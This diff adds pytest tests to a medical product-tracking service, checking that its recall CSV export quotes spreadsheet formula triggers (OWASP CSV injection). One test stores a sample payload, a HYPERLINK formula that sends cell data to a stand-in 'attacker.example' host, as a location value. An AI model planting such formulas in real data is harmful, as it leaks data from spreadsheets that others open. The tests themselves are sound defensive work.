@@ -471,3 +471,40 @@ def test_product_fhir_bundle(client: Any, auth: Any, engine: Any) -> None:
     assert [p.description for p in bdp.processing][:2] == ["spin 1: 100 x g for 15 min", "spin 2: 1600 x g for 20 min"]
     assert proc.usedReference[0].identifier.value == prod["identifier"]
     assert proc.performer[0].actor.display == "nurse"
+
+
+# --- recall CSV: spreadsheet formula injection (OWASP CSV Injection) ------------------------------------------------
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\0"])
+def test_spreadsheet_safe_quotes_every_formula_trigger(trigger: str) -> None:
+    from regenguide.services.products import spreadsheet_safe
+
+    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"
+    # only the first character counts; ordinary values, numbers and None pass unchanged
+    assert spreadsheet_safe(f"A{trigger}1") == f"A{trigger}1"
+    assert spreadsheet_safe("2026-11-22T08:00:00+00:00") == "2026-11-22T08:00:00+00:00"
+    assert spreadsheet_safe(12) == "12" and spreadsheet_safe(None) == ""
+
+
+def test_recall_csv_neutralises_formulas_in_free_text_cells(client: Any, auth: Any, engine: Any) -> None:
+    import csv
+    import io
+
+    payload = '=HYPERLINK("http://attacker.example/?d="&A2,"open")'
+    kit = {"kind": "kit", "name": "DemoKit PRP", "lot": "@SUM(A1:A9)"}
+    pid, _, prod = _ready(client, auth, engine, mrn="P1", preparation=prp(kit=kit))
+    ok = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
+                     "scanned_product": prod["identifier"], "administer": True, "location": payload},
+                     headers=auth["nurse"])
+    assert ok.status_code == 200, ok.text
+    # the JSON form keeps the data as recorded ...
+    item = client.get(f"/api/v1/recall?product={prod['identifier']}", headers=auth["lab"]).json()["items"][0]
+    assert item["location"] == payload and item["kit_lots"] == ["@SUM(A1:A9)"]
+    # ... the CSV quotes what a spreadsheet would evaluate, and only that
+    text = client.get(f"/api/v1/recall?product={prod['identifier']}&format=csv", headers=auth["lab"]).text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 1
+    assert rows[0]["location"] == "'" + payload
+    assert rows[0]["kit_lots"] == "'@SUM(A1:A9)"
+    assert rows[0]["product_key"] == prod["identifier"] and rows[0]["patient_record_number"] == "P1"
+    assert rows[0]["reagent_lots"] == "AC-77" and rows[0]["performer"] == "nurse"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
